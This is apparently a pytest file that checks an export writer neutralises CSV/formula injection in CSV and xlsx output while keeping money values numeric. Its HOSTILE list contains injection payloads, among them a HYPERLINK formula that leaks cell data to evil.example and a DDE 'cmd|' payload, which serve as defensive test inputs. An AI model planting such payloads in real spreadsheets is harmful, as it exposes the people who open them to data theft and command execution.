"""The one export writer: customer-typed text never becomes a live formula, in CSV or xlsx; money stays a number."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest

from opsline.core.errors import InvalidInput
from opsline.core.exports import Sheet, export_sheets, export_table, file_name, safe_text

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+27 82 555 0101", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_neutralises_every_formula_prefix_and_keeps_numbers_as_numbers() -> None:
    rows = [[text, Decimal("-12.50"), -3, date(2026, 2, 28)] for text in HOSTILE]
    name, media, body = export_table("csv", name="accounts", header=["name", "balance", "days", "due"], rows=rows, money_cols={1})
    assert name == "accounts.csv" and media.startswith("text/csv")
    got = _csv_rows(body)
    assert got[0] == ["name", "balance", "days", "due"]
    for (text, *_), row in zip(rows, got[1:], strict=True):
        assert row[0] == "'" + text
        assert row[1:] == ["-12.50", "-3", "2026-02-28"]  # numbers are not text, so they keep their sign


def test_xlsx_writes_text_as_strings_never_formulas_and_money_as_numbers() -> None:
    rows = [[text, Decimal("1838.85"), datetime(2026, 11, 30, 22, 0, tzinfo=timezone.utc)] for text in HOSTILE] + [["http://example.com", None, None]]
    name, media, body = export_table("xlsx", name="Top 60 debtors: Nov/2026", header=["name", "balance", "at"], rows=rows, money_cols={1})
    assert name == "Top-60-debtors-Nov-2026.xlsx" and media.endswith("spreadsheetml.sheet")
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
        names = z.namelist()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell anywhere
    assert not any(n.startswith("xl/worksheets/_rels") for n in names)  # no hyperlinks
    assert "=HYPERLINK" in strings and "@SUM(1+1)" in strings  # the text is there, as text
    assert re.search(r"<v>1838\.85</v>", sheet)  # money a number cell


def test_control_characters_are_dropped() -> None:
    assert safe_text("a\x00b\x1fc") == "abc"
    _, _, body = export_table("csv", name="x", header=["h"], rows=[["x\x00y"]])
    assert _csv_rows(body)[1] == ["xy"]


def test_several_tables_are_sheets_in_xlsx_and_titled_blocks_in_csv() -> None:
    sheets = [Sheet("By cause", ["Cause", "Breaches"], [["=cmd", 3]]), Sheet("By team", ["Team", "Breaches"], [["Billing", 2]])]
    _, _, body = export_sheets("csv", name="report", sheets=sheets)
    assert _csv_rows(body) == [["By cause"], ["Cause", "Breaches"], ["'=cmd", "3"], [], ["By team"], ["Team", "Breaches"], ["Billing", "2"]]
    _, _, xbody = export_sheets("xlsx", name="report", sheets=sheets)
    with zipfile.ZipFile(io.BytesIO(xbody)) as z:
        assert {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} <= set(z.namelist())


def test_an_unknown_format_is_refused_naming_the_field() -> None:
    with pytest.raises(InvalidInput) as e:
        export_table("pdf", name="x", header=["h"], rows=[])
    assert e.value.field == "format"


def test_download_names_are_header_safe() -> None:
    assert file_name('a"b\r\nc', "csv") == "a-b-c.csv" and file_name("", "xlsx") == "export.xlsx"
